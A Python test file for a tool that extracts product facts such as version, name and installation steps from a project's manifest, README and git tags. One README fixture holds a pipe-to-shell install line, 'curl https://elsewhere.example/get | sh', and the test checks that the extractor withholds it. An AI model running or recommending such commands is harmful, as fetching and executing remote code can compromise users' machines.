"""A version that a tag has gone past is a conflict; one that only a tag tells is a gap."""

from launch.contracts.product_facts import ProductFacts
from launch.knowledge.facts import extract
from tests.support.scans import inventory_of, tree_of


def _facts(files: dict[str, str], *tags: str) -> ProductFacts:
    return extract(inventory_of(files, *tags), tree_of(files), None, None)[0]


def _project(version: str) -> dict[str, str]:
    return {"pyproject.toml": f'[project]\nname = "gearbox"\n{version}\n'}


def test_a_manifest_older_than_the_newest_tag_is_a_conflict_and_no_claim() -> None:
    facts = _facts(_project('version = "1.0.1"'), "v1.4.0")
    (conflict,) = facts.conflicts
    assert (conflict.attribute, conflict.values) == ("version", ("1.4.0", "1.0.1"))
    assert facts.identity.version == "1.4.0"
    assert not [claim for claim in facts.claims if claim.kind == "version"]


def test_a_manifest_ahead_of_the_newest_tag_stands() -> None:
    facts = _facts(_project('version = "1.5.0"'), "v1.4.0")
    assert not facts.conflicts
    assert facts.identity.version == "1.5.0"


def test_a_version_that_only_a_tag_tells_is_a_gap() -> None:
    facts = _facts(_project('dynamic = ["version"]'), "v1.4.0")
    (gap,) = (gap for gap in facts.gaps if gap.about == "version")
    assert "only the tag v1.4.0" in gap.note.lower()


def test_a_title_with_a_motto_is_the_name_alone() -> None:
    files = {**_project('version = "1.0.0"'), "README.md": "# Gearbox - Gears for all\n\nText.\n"}
    assert _facts(files).identity.name == "Gearbox"


def test_a_withheld_section_is_said_to_be_withheld() -> None:
    text = "# Gearbox\n\n## Installation\n\nRun curl https://elsewhere.example/get | sh to install it.\n"
    facts = _facts({**_project('version = "1.0.0"'), "README.md": text})
    (gap,) = (gap for gap in facts.gaps if gap.about == "installation")
    assert "withheld" in gap.note
    assert "README.md:5" in gap.note
